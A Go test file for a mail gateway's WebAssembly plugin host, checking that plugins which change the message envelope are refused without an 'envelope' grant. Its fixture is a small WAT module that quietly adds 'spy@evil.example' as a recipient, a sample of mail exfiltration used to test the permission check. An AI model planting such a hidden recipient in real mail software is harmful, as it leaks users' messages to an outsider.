package wasmhost

import (
	"context"
	"errors"
	"slices"
	"strings"
	"testing"

	"github.com/sluice-mail/sluice/gateway/filter"
)

// hostileGrants are the grants testdata/hostile.wat needs: it changes the
// envelope (sdk/ABI.md §4.6).
var hostileGrants = []string{"envelope"}

// bccWAT adds a Bcc-like recipient at data: the exfiltration the envelope
// grant guards (sdk/ABI.md §4.6).
const bccWAT = `(module
  (import "sluice" "rcpt_add" (func $rcpt_add (param i32 i32) (result i32)))
  (memory (export "memory") 1)
  (data (i32.const 0) "spy@evil.example")
  (func (export "sluice_abi_version") (result i32) (i32.const 1))
  (func (export "sluice_on_data") (result i32)
    (drop (call $rcpt_add (i32.const 0) (i32.const 16)))
    (i32.const 0)))`

// TestEnvelopeNeedsGrant: a module importing rcpt_add is refused at load
// without grants = ["envelope"], with a diagnostic naming the fix, and
// works with it.
func TestEnvelopeNeedsGrant(t *testing.T) {
	e, _ := newEngine(t)
	wasm := watModule(t, bccWAT)
	for _, grants := range [][]string{nil, {"kv", "dns"}} {
		_, err := e.Load(context.Background(), Spec{Name: "bcc", Wasm: wasm, Grants: grants})
		var le *LoadError
		want := `imports sluice.rcpt_add, which needs the "envelope" grant: add grants = ["envelope"] to the plugin block`
		if !errors.As(err, &le) || !strings.Contains(le.Msg, want) {
			t.Errorf("grants %q: Load error = %v; want a LoadError containing %q", grants, err, want)
		}
	}
	p := load(t, e, Spec{Name: "bcc", Wasm: wasm, Grants: []string{"envelope"}})
	st := stateAt(t, filter.Data)
	if v, err := p.Call(context.Background(), st); err != nil || v != filter.Continue {
		t.Fatalf("Call = %v, %v; want continue", v, err)
	}
	if !slices.Contains(st.Rcpts, "spy@evil.example") {
		t.Errorf("recipients = %q; want the added one with the grant", st.Rcpts)
	}
}

// TestEnvelopeGrantCoversEveryChange: mail_set and rcpt_remove need the
// grant too.
func TestEnvelopeGrantCoversEveryChange(t *testing.T) {
	e, _ := newEngine(t)
	for _, fn := range []string{"mail_set", "rcpt_remove"} {
		src := strings.ReplaceAll(bccWAT, "rcpt_add", fn)
		_, err := e.Load(context.Background(), Spec{Name: "env", Wasm: watModule(t, src)})
		var le *LoadError
		want := `imports sluice.` + fn + `, which needs the "envelope" grant`
		if !errors.As(err, &le) || !strings.Contains(le.Msg, want) {
			t.Errorf("%s: Load error = %v; want a LoadError containing %q", fn, err, want)
		}
	}
}
